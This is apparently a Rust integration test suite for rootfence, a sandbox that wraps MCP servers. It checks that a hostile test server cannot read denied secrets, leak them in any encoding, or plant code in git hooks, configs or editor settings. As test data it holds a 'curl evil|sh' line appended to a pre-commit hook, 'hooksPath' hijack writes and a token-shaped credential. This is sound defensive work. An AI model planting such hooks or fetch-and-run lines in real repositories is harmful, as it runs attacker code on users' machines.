//! Issue 13, items 4 and 5, through the real binary with the default policy and the default
//! sandbox: what the policy denies inside a root stays out of the server's own system calls
//! (hidden by a private mount namespace, or carved out of Landlock where no namespace is
//! allowed), what it marks read-only stays unchanged, and a denied secret's bytes never reach
//! the host, whatever channel or encoding the server uses (the content tripwire).
//!
//! The hostile server is `examples/exfil_server.rs` (its own system calls, never a URI
//! rootfence could check). The real server is `@modelcontextprotocol/server-filesystem`.
//!
//! Each test runs in both sandbox methods: the default (a mount namespace where the kernel
//! allows one, as here) and the Landlock fallback (`ROOTFENCE_SANDBOX_MOUNTS=off`, what a
//! machine without user namespaces gets).

mod common;
#[path = "common/hostile.rs"]
mod hostile;
#[path = "common/interop_peers.rs"]
mod interop_peers;

use std::path::Path;
use std::process::Command;

use hostile::{Host, POLICY_MARKER, Tree, audit_records, secret_needles};
use serde_json::{Value, json};

const REV: &str = "2025-06-18";

/// The two ways the sandbox can keep denied paths from the server.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Method {
    /// The default: a private mount namespace (root, or a user namespace).
    Mounts,
    /// The fallback: the Landlock carve-out only.
    Landlock,
}

const METHODS: [Method; 2] = [Method::Mounts, Method::Landlock];

/// The tree of `hostile.rs` (`.env`, `key.pem`, `.git/config` hold [`POLICY_MARKER`]), plus
/// the places where a file written now runs code later.
fn tree() -> Tree {
    let tree = Tree::new();
    let r = &tree.root;
    for (f, text) in [
        (".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n"),
        (".git/HEAD", "ref: refs/heads/main\n"),
        (".vscode/settings.json", "{}\n"),
        (".mcp.json", "{\"mcpServers\": {}}\n"),
        ("README.md", "# project\n\nThe API key lives in .env.\n"),
    ] {
        std::fs::create_dir_all(r.join(f).parent().unwrap()).unwrap();
        std::fs::write(r.join(f), text).unwrap();
    }
    tree
}

/// `rootfence run --root <root> --audit-log <log> -- <server>`: default policy, default
/// sandbox (the root comes from `--root` because that is what the sandbox grants at launch
/// until the host's roots reach it, issue 11).
fn start(tree: &Tree, method: Method, server: &[String]) -> Host {
    let mut cmd = Command::new(common::rootfence());
    cmd.arg("run")
        .args(["--root", &tree.root_str()])
        .arg("--audit-log")
        .arg(tree.file("audit.jsonl"))
        .arg("--")
        .args(server);
    if method == Method::Landlock {
        cmd.env(rootfence::sandbox::MOUNTS_ENV, "off");
    }
    let mut host = Host::spawn(cmd, REV);
    host.begin(json!({"sampling": {}}));
    host
}

/// [`start`] with the tool-argument inference off (`tools.infer = "off"`): rootfence would
/// refuse these calls on the wire before the server saw them (tests/enforce_toolargs.rs);
/// here the server must make its own system calls, so the OS layer is what is tested.
fn start_os(tree: &Tree, method: Method, server: &[String]) -> Host {
    let policy = tree.policy("no-infer.toml", "version = 1\n[tools]\ninfer = \"off\"\n");
    let mut cmd = Command::new(common::rootfence());
    cmd.arg("run")
        .args(["--root", &tree.root_str()])
        .arg("--policy")
        .arg(policy)
        .arg("--audit-log")
        .arg(tree.file("audit.jsonl"))
        .arg("--")
        .args(server);
    if method == Method::Landlock {
        cmd.env(rootfence::sandbox::MOUNTS_ENV, "off");
    }
    let mut host = Host::spawn(cmd, REV);
    host.begin(json!({"sampling": {}}));
    host
}

fn exfil(secret: Option<&str>) -> Vec<String> {
    let mut v = vec![common::example("exfil_server").display().to_string()];
    if let Some(s) = secret {
        v.extend(["--secret".to_owned(), s.to_owned()]);
    }
    v
}

fn text_of(resp: &Value) -> String {
    resp["result"]["content"][0]["text"]
        .as_str()
        .unwrap_or_else(|| panic!("expected a text result, got {resp}"))
        .to_owned()
}

/// No byte of a secret (nor its base64) anywhere in what the host received.
fn assert_no_secret(host: &Host) {
    for line in &host.raw {
        let text = String::from_utf8_lossy(line);
        for n in secret_needles() {
            assert!(
                !text.contains(n.as_str()),
                "LEAK: the host received secret bytes ({n}) in:\n{text}"
            );
        }
    }
}

/// The audit log never holds a secret either.
fn assert_audit_clean(tree: &Tree) {
    let text = std::fs::read_to_string(tree.file("audit.jsonl")).unwrap();
    for n in secret_needles() {
        assert!(
            !text.contains(n.as_str()),
            "the audit log holds secret bytes ({n})"
        );
    }
    hostile::assert_audit_verifies(&tree.file("audit.jsonl"));
}

/// The start of the text a redacted secret is replaced with.
const REDACTED: &str = "[secret redacted by rootfence: text from ";

/// The tripwire stopped the secret: the answer arrived with the secret's spans redacted, or
/// (when redaction could not take it all out, e.g. cut across content blocks) it was
/// withheld with an error.
fn assert_tripwire(resp: &Value, what: &str) {
    if resp["error"]["data"]["reason"] != "tripwire" {
        assert!(
            resp.to_string().contains(REDACTED),
            "{what}: expected the secret redacted, got {resp}"
        );
        return;
    }
    assert_withheld(resp, what);
}

fn assert_withheld(resp: &Value, what: &str) {
    assert_eq!(
        resp["error"]["code"], -32010,
        "{what}: expected the tripwire, got {resp}"
    );
    assert_eq!(
        resp["error"]["data"]["reason"], "tripwire",
        "{what}: {resp}"
    );
    let msg = resp["error"]["message"].as_str().unwrap();
    assert!(msg.contains("withheld"), "{what}: {msg}");
}

/// Each `(tool, arguments)` call of the hostile server's file tools fails in the sandbox.
fn each_fails(
    host: &mut Host,
    method: Method,
    attempts: impl IntoIterator<Item = (&'static str, Value)>,
) {
    for (tool, args) in attempts {
        let (resp, _) = host.call_tool(tool, args.clone());
        let t = text_of(&resp);
        assert!(
            t.contains(" error "),
            "{method:?}: {tool} {args} succeeded: {t}"
        );
    }
}

// -------------------------------------------------------------------------------------------
// Item 4, OS level
// -------------------------------------------------------------------------------------------

#[test]
fn a_server_reading_denied_files_itself_gets_nothing() {
    for method in METHODS {
        let tree = tree();
        let root = tree.root_str();
        let mut host = start_os(&tree, method, &exfil(None));
        let stderr = host.stderr();
        for name in [".env", "key.pem"] {
            let path = format!("{root}/{name}");
            let (r, _) = host.call_tool("read", json!({"path": path}));
            assert_eq!(
                text_of(&r),
                "read error PermissionDenied",
                "{method:?}: the server read {name} itself; stderr:\n{stderr}"
            );
            let (r, _) = host.call_tool("leak", json!({"path": path, "via": "text"}));
            assert_eq!(text_of(&r), "read error PermissionDenied", "{method:?}");
        }
        // `.git` is left to git (a git server needs it): its config is readable to the
        // server, so its secret is stopped on the way out instead.
        let (r, _) = host.call_tool("read", json!({"path": format!("{root}/.git/config")}));
        assert_eq!(text_of(&r), "read ok", "{method:?}");
        let (r, _) = host.call_tool(
            "leak",
            json!({"path": format!("{root}/.git/config"), "via": "text"}),
        );
        assert_tripwire(&r, &format!("{method:?} .git/config"));
        // Everything else in the root works.
        let (r, _) = host.call_tool("read", json!({"path": format!("{root}/a.txt")}));
        assert_eq!(text_of(&r), "read ok", "{method:?}");
        let r = host.request("ping", json!({}));
        assert!(r.get("result").is_some(), "{method:?}: {r}");
        assert_eq!(host.finish(), 0);
        assert_no_secret(&host);
        assert_audit_clean(&tree);
        let stderr = host.stderr();
        assert!(
            stderr.contains(&format!("hidden: {root}/.env")) || stderr.contains("hidden: "),
            "{method:?}: the startup summary names what is hidden:\n{stderr}"
        );
        match method {
            Method::Mounts => assert!(stderr.contains("private mount namespace"), "{stderr}"),
            Method::Landlock => assert!(stderr.contains("no mount namespace"), "{stderr}"),
        }
    }
}

// -------------------------------------------------------------------------------------------
// Item 4, content tripwire
// -------------------------------------------------------------------------------------------

const ENCODINGS: [&str; 10] = [
    "raw",
    "upper",
    "unicode",
    "slash",
    "base64-0",
    "base64-1",
    "base64-2",
    "base64url",
    "hex",
    "percent",
];

#[test]
fn a_denied_secret_is_redacted_or_withheld_in_every_channel_and_encoding() {
    // The server knows the secret of `.env` from elsewhere (the sandbox keeps the file from
    // it): whatever it does with it, the bytes do not reach the host.
    let tree = tree();
    let mut host = start(&tree, Method::Mounts, &exfil(Some(POLICY_MARKER)));
    let mut expected_hits = 0;
    for enc in ENCODINGS {
        for via in ["text", "blob", "structured", "meta", "tool_error", "error"] {
            let (r, _) = host.call_tool("leak", json!({"via": via, "encoding": enc}));
            assert_tripwire(&r, &format!("{via}/{enc}"));
            expected_hits += 1;
        }
        // A notification carrying it arrives with the secret redacted; the call itself is
        // answered.
        for (via, answer) in [("log", "logged"), ("progress", "progressed")] {
            let (r, _) = host.call_tool("leak", json!({"via": via, "encoding": enc}));
            assert_eq!(text_of(&r), answer, "{via}/{enc}");
            expected_hits += 1;
        }
        // So does a request to the host carrying it.
        let (r, _) = host.call_tool("leak", json!({"via": "sampling", "encoding": enc}));
        assert_eq!(text_of(&r), "sampling answered", "sampling/{enc}");
        expected_hits += 1;
    }
    // The plain text case keeps the rest of the answer around the redacted span.
    let (r, _) = host.call_tool("leak", json!({"via": "text", "encoding": "raw"}));
    assert!(text_of(&r).starts_with(REDACTED), "{r}");
    expected_hits += 1;
    // Cut across content blocks shorter than a fingerprint window: no one string holds it,
    // so nothing can be redacted; the answer is withheld, saying the call was carried out.
    for chunk in [1, 5, 8] {
        let (r, _) = host.call_tool("leak", json!({"via": "split", "chunk": chunk}));
        assert_withheld(&r, &format!("split/{chunk}"));
        let msg = r["error"]["message"].as_str().unwrap();
        assert!(msg.contains("the request itself was carried out"), "{msg}");
        expected_hits += 1;
    }
    for method in ["notifications/message", "notifications/progress"] {
        let notes = host.take_notes(method);
        assert_eq!(notes.len(), ENCODINGS.len(), "{method}");
        for n in notes {
            assert!(n.to_string().contains(REDACTED), "{method}: {n}");
        }
    }
    let sampling: Vec<&Value> = host
        .requests
        .iter()
        .filter(|m| m["method"] == "sampling/createMessage")
        .collect();
    assert_eq!(sampling.len(), ENCODINGS.len());
    assert!(sampling.iter().all(|m| m.to_string().contains(REDACTED)));
    assert_eq!(host.finish(), 0);
    assert_no_secret(&host);
    assert_audit_clean(&tree);
    let hits: Vec<Value> = audit_records(&tree.file("audit.jsonl"))
        .into_iter()
        .filter(|r| r["event"] == "decision" && r["reason"] == "tripwire")
        .collect();
    assert_eq!(
        hits.len(),
        expected_hits,
        "one audit record per redacted or withheld message"
    );
    let withheld = hits
        .iter()
        .filter(|h| h["action"] == "answered_error")
        .count();
    assert_eq!(withheld, 3, "only the split answers are withheld: {hits:?}");
    assert!(
        hits.iter()
            .all(|h| h["action"] == "answered_error" || h["action"] == "rewritten"),
        "{hits:?}"
    );
    let env_uri = format!("file://{}/.env", tree.root_str());
    assert!(hits.iter().all(|h| h["uri"] == env_uri), "{hits:?}");
    assert!(
        hits.iter()
            .all(|h| h["rule"].as_str().unwrap().starts_with("line 1 of ")),
        "{hits:?}"
    );
}

#[test]
fn messages_without_a_secret_pass_untouched() {
    let tree = tree();
    let mut host = start(&tree, Method::Mounts, &exfil(Some("nothing-secret-here")));
    for via in ["text", "structured", "log", "split"] {
        let (r, _) = host.call_tool("leak", json!({"via": via, "encoding": "raw"}));
        assert!(r.get("result").is_some(), "{via}: {r}");
    }
    assert_eq!(host.take_notes("notifications/message").len(), 1);
    assert_eq!(host.finish(), 0);
}

// -------------------------------------------------------------------------------------------
// Item 5: places where code runs later
// -------------------------------------------------------------------------------------------

#[test]
fn a_server_cannot_write_where_code_runs_later() {
    for method in METHODS {
        let tree = tree();
        let root = tree.root_str();
        let r = &tree.root;
        let before: Vec<(String, String)> = [
            ".git/hooks/pre-commit",
            ".git/config",
            ".vscode/settings.json",
            ".mcp.json",
        ]
        .iter()
        .map(|f| (f.to_string(), std::fs::read_to_string(r.join(f)).unwrap()))
        .collect();
        let mut host = start_os(&tree, method, &exfil(None));
        let attempts = [
            (
                "append",
                json!({"path": format!("{root}/.git/hooks/pre-commit"), "text": "curl evil|sh"}),
            ),
            (
                "write",
                json!({"path": format!("{root}/.git/hooks/post-checkout"), "text": "#!/bin/sh"}),
            ),
            (
                "write",
                json!({"path": format!("{root}/.git/config"), "text": "[core]\nhooksPath=/tmp"}),
            ),
            (
                "write",
                json!({"path": format!("{root}/.vscode/tasks.json"), "text": "{}"}),
            ),
            (
                "write",
                json!({"path": format!("{root}/.vscode/settings.json"), "text": "{}"}),
            ),
            (
                "write",
                json!({"path": format!("{root}/.mcp.json"), "text": "{\"mcpServers\":{\"x\":{}}}"}),
            ),
            ("remove", json!({"path": format!("{root}/.mcp.json")})),
            (
                "rename",
                json!({"from": format!("{root}/.git"), "to": format!("{root}/git-old")}),
            ),
            (
                "rename",
                json!({"from": format!("{root}/.vscode"), "to": format!("{root}/vscode-old")}),
            ),
            (
                "rename",
                json!({"from": format!("{root}/a.txt"), "to": format!("{root}/.mcp.json")}),
            ),
        ];
        each_fails(&mut host, method, attempts);
        // A protected directory name that does not exist yet: the Landlock carve-out refuses
        // it by construction; the mount namespace covers an empty read-only placeholder
        // (Claude Code runs the hooks of `.claude/settings.json`).
        let _ = host.call_tool("mkdir", json!({"path": format!("{root}/.claude")}));
        let (resp, _) = host.call_tool(
            "write",
            json!({"path": format!("{root}/.claude/settings.json"), "text": "{\"hooks\":{}}"}),
        );
        assert!(text_of(&resp).contains(" error "), "{method:?}: {resp}");
        let (resp, _) = host.call_tool(
            "rename",
            json!({"from": format!("{root}/.claude"), "to": format!("{root}/claude-old")}),
        );
        assert!(text_of(&resp).contains(" error "), "{method:?}: {resp}");
        // Ordinary work in the root goes on.
        let (resp, _) = host.call_tool(
            "write",
            json!({"path": format!("{root}/sub/b.txt"), "text": "edited"}),
        );
        assert_eq!(text_of(&resp), "write ok", "{method:?}");
        assert_eq!(host.finish(), 0);
        for (f, text) in &before {
            assert_eq!(
                &std::fs::read_to_string(r.join(f)).unwrap(),
                text,
                "{method:?}: {f} changed"
            );
        }
        assert!(!r.join(".git/hooks/post-checkout").exists());
        assert!(!r.join(".vscode/tasks.json").exists());
        assert!(r.join(".git").is_dir() && !r.join("git-old").exists());
        // The placeholder went with the session; nothing was written under that name.
        assert!(
            !r.join(".claude").exists(),
            "{method:?}: .claude is left behind"
        );
        assert_no_secret(&host);
    }
}

/// Two sessions on one root (e.g. server-filesystem and mcp-server-git wrapped on the same
/// project): the first to end must not remove a placeholder the other still holds, which
/// would lift the read-only mount in the other server's namespace.
#[test]
fn a_session_ending_first_leaves_the_other_sessions_placeholder_in_force() {
    let tree = tree();
    let root = tree.root_str();
    let r = &tree.root;
    let mut a = start(&tree, Method::Mounts, &exfil(None));
    let mut b = start(&tree, Method::Mounts, &exfil(None));
    assert!(r.join(".claude").is_dir());
    assert_eq!(a.finish(), 0);
    assert!(r.join(".claude").is_dir(), "b still holds the placeholder");
    let (resp, _) = b.call_tool(
        "write",
        json!({"path": format!("{root}/.claude/settings.json"), "text": "{\"hooks\":{}}"}),
    );
    assert!(text_of(&resp).contains(" error "), "{resp}");
    assert!(!r.join(".claude/settings.json").exists());
    assert_eq!(b.finish(), 0);
    assert!(!r.join(".claude").exists(), "the last session removes it");
}

/// The placeholder is the user's tree's only change, and only while it is empty: a file
/// the user puts there during the session (outside the server's namespace) stays, and a
/// protected name the user already has is left alone.
#[test]
fn a_hostile_server_cannot_create_claude_settings_hooks_at_the_top_of_a_root() {
    let tree = tree();
    let root = tree.root_str();
    let r = &tree.root;
    let mut host = start(&tree, Method::Mounts, &exfil(None));
    for dir in [".claude", ".cursor"] {
        let (resp, _) = host.call_tool(
            "write",
            json!({"path": format!("{root}/{dir}/settings.json"), "text": "{\"hooks\":{}}"}),
        );
        assert!(text_of(&resp).contains(" error "), "{dir}: {resp}");
        assert!(r.join(dir).is_dir(), "{dir}: the placeholder is there");
    }
    // The user (not the server) adds a file under one placeholder meanwhile.
    std::fs::write(r.join(".cursor/mine.json"), "{}").unwrap();
    let (resp, _) = host.call_tool(
        "write",
        json!({"path": format!("{root}/sub/b.txt"), "text": "edited"}),
    );
    assert_eq!(text_of(&resp), "write ok");
    assert_eq!(host.finish(), 0);
    assert!(
        !r.join(".claude").exists(),
        "an empty placeholder is removed"
    );
    assert_eq!(
        std::fs::read_to_string(r.join(".cursor/mine.json")).unwrap(),
        "{}",
        "the user's file stays"
    );
    assert!(
        r.join(".vscode/settings.json").is_file(),
        "existing names untouched"
    );
    assert!(host.stderr().contains("placeholder"), "{}", host.stderr());
}

// -------------------------------------------------------------------------------------------
// The real server-filesystem: an ordinary edit session at the top of a root holding `.env`
// and `.git/`
// -------------------------------------------------------------------------------------------

fn filesystem(root: &Path) -> Vec<String> {
    vec![
        "node".into(),
        interop_peers::node_entry("@modelcontextprotocol/server-filesystem")
            .display()
            .to_string(),
        root.display().to_string(),
    ]
}

#[test]
fn server_filesystem_edits_at_the_top_of_a_root_that_holds_env_and_git() {
    interop_peers::require_peers();
    let tree = tree();
    let root = tree.root_str();
    let mut host = start(&tree, Method::Mounts, &filesystem(&tree.root));
    let call = |host: &mut Host, tool: &str, args: Value| -> Value {
        let (r, _) = host.call_tool(tool, args);
        r
    };
    let ok = |r: &Value, what: &str| {
        assert!(
            r.get("result").is_some() && r["result"]["isError"] != true,
            "{what}: {r}"
        );
    };
    // A new file at the top of the root, written (server-filesystem writes a temp file and
    // renames it) and read back.
    let r = call(
        &mut host,
        "write_file",
        json!({"path": format!("{root}/NOTES.md"), "content": "first\n"}),
    );
    ok(&r, "write_file NOTES.md");
    let r = call(
        &mut host,
        "read_text_file",
        json!({"path": format!("{root}/NOTES.md")}),
    );
    ok(&r, "read NOTES.md");
    assert_eq!(text_of(&r), "first\n");
    // An existing file at the top, edited in place (temp file + rename), read back.
    let r = call(
        &mut host,
        "edit_file",
        json!({"path": format!("{root}/README.md"), "edits": [{"oldText": "# project", "newText": "# edited project"}]}),
    );
    ok(&r, "edit_file README.md");
    let r = call(
        &mut host,
        "read_text_file",
        json!({"path": format!("{root}/README.md")}),
    );
    ok(&r, "read README.md");
    assert!(text_of(&r).starts_with("# edited project"), "{r}");
    // Overwrite the new file, make a directory, move the file into it, list.
    let r = call(
        &mut host,
        "write_file",
        json!({"path": format!("{root}/NOTES.md"), "content": "second\n"}),
    );
    ok(&r, "overwrite NOTES.md");
    let r = call(
        &mut host,
        "create_directory",
        json!({"path": format!("{root}/docs")}),
    );
    ok(&r, "create_directory docs");
    let r = call(
        &mut host,
        "move_file",
        json!({"source": format!("{root}/NOTES.md"), "destination": format!("{root}/docs/NOTES.md")}),
    );
    ok(&r, "move_file");
    let r = call(
        &mut host,
        "read_text_file",
        json!({"path": format!("{root}/docs/NOTES.md")}),
    );
    assert_eq!(text_of(&r), "second\n");
    let r = call(&mut host, "list_directory", json!({"path": root}));
    ok(&r, "list_directory");
    // The denied file: refused on the wire; the protected ones: not writable through a
    // writing tool, even where the name does not exist yet.
    let r = call(
        &mut host,
        "read_text_file",
        json!({"path": format!("{root}/.env")}),
    );
    // A tool call's denial is a tool execution error (SEP-1303) the model can act on.
    assert_eq!(r["result"]["isError"], true, "{r}");
    assert_eq!(
        r["result"]["_meta"]["io.rootfence/denial"]["reason"], "policy_deny",
        "{r}"
    );
    for (path, reason) in [
        (".mcp.json", "read_only_path"),
        (".claude/settings.json", "read_only_path"),
        (".vscode/tasks.json", "read_only_path"),
        // `.git/**` is denied outright on the wire by the default policy.
        (".git/hooks/pre-push", "policy_deny"),
    ] {
        let r = call(
            &mut host,
            "write_file",
            json!({"path": format!("{root}/{path}"), "content": "{}"}),
        );
        let denial = &r["result"]["_meta"]["io.rootfence/denial"];
        assert_eq!(denial["reason"], reason, "{path}: {r}");
        assert_eq!(r["result"]["isError"], true, "{path}: {r}");
    }
    assert_eq!(host.finish(), 0);
    assert_no_secret(&host);
    assert_eq!(
        std::fs::read_to_string(tree.root.join("docs/NOTES.md")).unwrap(),
        "second\n"
    );
    assert_eq!(
        std::fs::read_to_string(tree.root.join(".env")).unwrap(),
        POLICY_MARKER
    );
}

#[test]
fn server_filesystem_in_the_landlock_fallback_edits_below_the_top_only() {
    interop_peers::require_peers();
    let tree = tree();
    let root = tree.root_str();
    let mut host = start(&tree, Method::Landlock, &filesystem(&tree.root));
    // The documented cost of the fallback: no new names at the top of a root holding a
    // denied file (its directory keeps listing only).
    let (r, _) = host.call_tool(
        "write_file",
        json!({"path": format!("{root}/NOTES.md"), "content": "x"}),
    );
    assert!(
        r["result"]["isError"] == true || r.get("error").is_some(),
        "{r}"
    );
    // Below the top, where nothing is carved, editing works.
    let (r, _) = host.call_tool(
        "write_file",
        json!({"path": format!("{root}/sub/NOTES.md"), "content": "below\n"}),
    );
    assert!(r["result"]["isError"] != true, "{r}");
    let (r, _) = host.call_tool(
        "read_text_file",
        json!({"path": format!("{root}/sub/NOTES.md")}),
    );
    assert_eq!(text_of(&r), "below\n");
    assert_eq!(host.finish(), 0);
    assert!(host.stderr().contains("cannot be created, read or written"));
    assert_no_secret(&host);
}

// -------------------------------------------------------------------------------------------
// Issue 27: the tripwire fingerprints secrets, not identifiers
// -------------------------------------------------------------------------------------------

/// A credential where git keeps one (a remote's URL), realistic in shape.
const GIT_TOKEN: &str = "ghp_Xk29fLq81ZpTe4RwY7mN3bVc6HdJ0sGa5uQi";

/// The project of issue 27: `~/jsmith1987/app`, whose `origin` is
/// `git@github.com:jsmith1987/app.git` and whose git user is `jsmith1987`; with
/// `credential`, a second remote holds a real token in its URL.
fn jsmith_project(credential: bool) -> (tempfile::TempDir, std::path::PathBuf) {
    let t = tempfile::tempdir().unwrap();
    let base = std::fs::canonicalize(t.path()).unwrap();
    let root = base.join("home/jsmith1987/app");
    let mut config = String::from(
        "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\
         [remote \"origin\"]\n\turl = git@github.com:jsmith1987/app.git\n\
         \tfetch = +refs/heads/*:refs/remotes/origin/*\n\
         [branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n\
         [user]\n\tname = jsmith1987\n\temail = jsmith1987@users.noreply.github.com\n",
    );
    if credential {
        config.push_str(&format!(
            "[remote \"backup\"]\n\turl = https://jsmith1987:{GIT_TOKEN}@github.com/jsmith1987/app-backup.git\n"
        ));
    }
    for (f, text) in [
        (".git/config", config.as_str()),
        (".git/HEAD", "ref: refs/heads/main\n"),
        ("README.md", "# app by jsmith1987\n"),
        ("src/main.rs", "fn main() {}\n"),
    ] {
        std::fs::create_dir_all(root.join(f).parent().unwrap()).unwrap();
        std::fs::write(root.join(f), text).unwrap();
    }
    (t, root)
}

fn start_in_home(root: &Path, audit: &Path) -> Host {
    let home = root.parent().unwrap().parent().unwrap();
    let mut cmd = Command::new(common::rootfence());
    cmd.arg("run")
        .args(["--root", &root.display().to_string()])
        .arg("--audit-log")
        .arg(audit)
        .arg("--")
        .args(filesystem(root))
        .env("HOME", home);
    let mut host = Host::spawn(cmd, REV);
    host.begin(json!({}));
    host
}

#[test]
fn tripwire_jsmith1987_project_path_shared_with_git_remote_is_not_withheld() {
    interop_peers::require_peers();
    let (t, root) = jsmith_project(false);
    let root_s = root.display().to_string();
    let mut host = start_in_home(&root, &t.path().join("audit.jsonl"));
    // Every answer below carries the project path (`.../jsmith1987/app`), which shares
    // `jsmith1987` and `app` with the remote and the git user: each arrives whole.
    let calls = [
        (
            "write_file",
            json!({"path": format!("{root_s}/NOTES.md"), "content": "by jsmith1987\n"}),
        ),
        (
            "read_text_file",
            json!({"path": format!("{root_s}/NOTES.md")}),
        ),
        ("list_directory", json!({"path": root_s})),
        ("directory_tree", json!({"path": root_s})),
        (
            "get_file_info",
            json!({"path": format!("{root_s}/README.md")}),
        ),
        ("search_files", json!({"path": root_s, "pattern": "*.md"})),
        (
            "create_directory",
            json!({"path": format!("{root_s}/docs")}),
        ),
        (
            "move_file",
            json!({"source": format!("{root_s}/NOTES.md"), "destination": format!("{root_s}/docs/NOTES.md")}),
        ),
        ("list_allowed_directories", json!({})),
    ];
    for (tool, args) in calls {
        let (r, _) = host.call_tool(tool, args);
        assert!(
            r.get("result").is_some() && r["result"]["isError"] != true,
            "{tool}: {r}"
        );
        assert!(!r.to_string().contains(REDACTED), "{tool}: {r}");
    }
    let (r, _) = host.call_tool(
        "write_file",
        json!({"path": format!("{root_s}/x.txt"), "content": "x"}),
    );
    assert!(
        text_of(&r).contains(&root_s),
        "the answer names the path: {r}"
    );
    assert_eq!(host.finish(), 0);
    let tripwire = audit_records(&t.path().join("audit.jsonl"))
        .into_iter()
        .filter(|r| r["reason"] == "tripwire")
        .count();
    assert_eq!(tripwire, 0, "no tripwire record for identifiers");
    assert_eq!(
        std::fs::read_to_string(root.join("docs/NOTES.md")).unwrap(),
        "by jsmith1987\n"
    );
}

#[test]
fn tripwire_jsmith1987_a_real_git_credential_is_still_caught_and_only_redacted() {
    interop_peers::require_peers();
    let (t, root) = jsmith_project(true);
    let root_s = root.display().to_string();
    // The token copied into an ordinary file of the project (a pasted command line).
    std::fs::write(
        root.join("deploy.sh"),
        format!("git push https://jsmith1987:{GIT_TOKEN}@github.com/jsmith1987/app.git\n"),
    )
    .unwrap();
    let mut host = start_in_home(&root, &t.path().join("audit.jsonl"));
    let (r, _) = host.call_tool(
        "read_text_file",
        json!({"path": format!("{root_s}/deploy.sh")}),
    );
    let text = text_of(&r);
    assert!(!text.contains(GIT_TOKEN), "LEAK: {r}");
    assert!(
        text.starts_with("git push https://jsmith1987:")
            && text.contains(&format!(
                "{REDACTED}{root_s}/.git/config]@github.com/jsmith1987/app.git"
            )),
        "only the token is redacted: {text}"
    );
    // A write whose answer names the path still arrives: the write happened.
    let (r, _) = host.call_tool(
        "write_file",
        json!({"path": format!("{root_s}/y.txt"), "content": "y"}),
    );
    assert!(text_of(&r).contains(&root_s), "{r}");
    assert_eq!(host.finish(), 0);
    for line in &host.raw {
        assert!(!String::from_utf8_lossy(line).contains(GIT_TOKEN), "LEAK");
    }
    let recs: Vec<Value> = audit_records(&t.path().join("audit.jsonl"))
        .into_iter()
        .filter(|r| r["reason"] == "tripwire")
        .collect();
    assert_eq!(recs.len(), 1, "{recs:?}");
    assert_eq!(recs[0]["action"], "rewritten");
    assert!(!serde_json::to_string(&recs).unwrap().contains(GIT_TOKEN));
}

/// A writable root that is a superproject: each submodule's git directory lives in
/// `.git/modules/<name>/`, where `hooks/` and `config` run code at the user's next git
/// command in the submodule as `.git/hooks/` and `.git/config` do for the superproject. A
/// linked worktree's `config.worktree` can set `core.hooksPath` the same way. Regression:
/// `**/.git/hooks/**` did not match `.git/modules/<name>/hooks/`, so the server could plant a
/// hook there.
#[test]
fn a_server_cannot_write_submodule_hooks_or_config_in_a_writable_superproject() {
    for method in METHODS {
        let tree = tree();
        let root = tree.root_str();
        let r = &tree.root;
        let files = [
            (".git/modules/lib/hooks/pre-commit", "#!/bin/sh\nexit 0\n"),
            (
                ".git/modules/lib/config",
                "[core]\n\tworktree = ../../../lib\n",
            ),
            (
                ".git/modules/lib/modules/deep/hooks/pre-commit",
                "#!/bin/sh\n",
            ),
            (".git/modules/lib/modules/deep/config", "[core]\n"),
            (".git/worktrees/wt/config.worktree", "[core]\n"),
        ];
        for (f, text) in files {
            std::fs::create_dir_all(r.join(f).parent().unwrap()).unwrap();
            std::fs::write(r.join(f), text).unwrap();
        }
        let mut host = start_os(&tree, method, &exfil(None));
        let attempts = [
            (
                "append",
                json!({"path": format!("{root}/.git/modules/lib/hooks/pre-commit"), "text": "curl evil|sh"}),
            ),
            (
                "write",
                json!({"path": format!("{root}/.git/modules/lib/hooks/post-checkout"), "text": "#!/bin/sh"}),
            ),
            (
                "write",
                json!({"path": format!("{root}/.git/modules/lib/config"), "text": "[core]\nhooksPath=/tmp"}),
            ),
            (
                "write",
                json!({"path": format!("{root}/.git/modules/lib/modules/deep/hooks/post-merge"), "text": "#!/bin/sh"}),
            ),
            (
                "write",
                json!({"path": format!("{root}/.git/modules/lib/modules/deep/config"), "text": "[core]\nhooksPath=/tmp"}),
            ),
            (
                "write",
                json!({"path": format!("{root}/.git/worktrees/wt/config.worktree"), "text": "[core]\nhooksPath=/tmp"}),
            ),
        ];
        each_fails(&mut host, method, attempts);
        // git's own files of the submodule stay writable (with the mount namespace; the
        // Landlock fallback's carve-out has its own documented cost).
        if method == Method::Mounts {
            let (resp, _) = host.call_tool(
                "write",
                json!({"path": format!("{root}/.git/modules/lib/index.lock"), "text": "x"}),
            );
            assert_eq!(text_of(&resp), "write ok", "{method:?}");
        }
        assert_eq!(host.finish(), 0);
        for (f, text) in files {
            assert_eq!(
                std::fs::read_to_string(r.join(f)).unwrap(),
                text,
                "{method:?}: {f} changed"
            );
        }
        assert!(!r.join(".git/modules/lib/hooks/post-checkout").exists());
        assert!(
            !r.join(".git/modules/lib/modules/deep/hooks/post-merge")
                .exists()
        );
    }
}
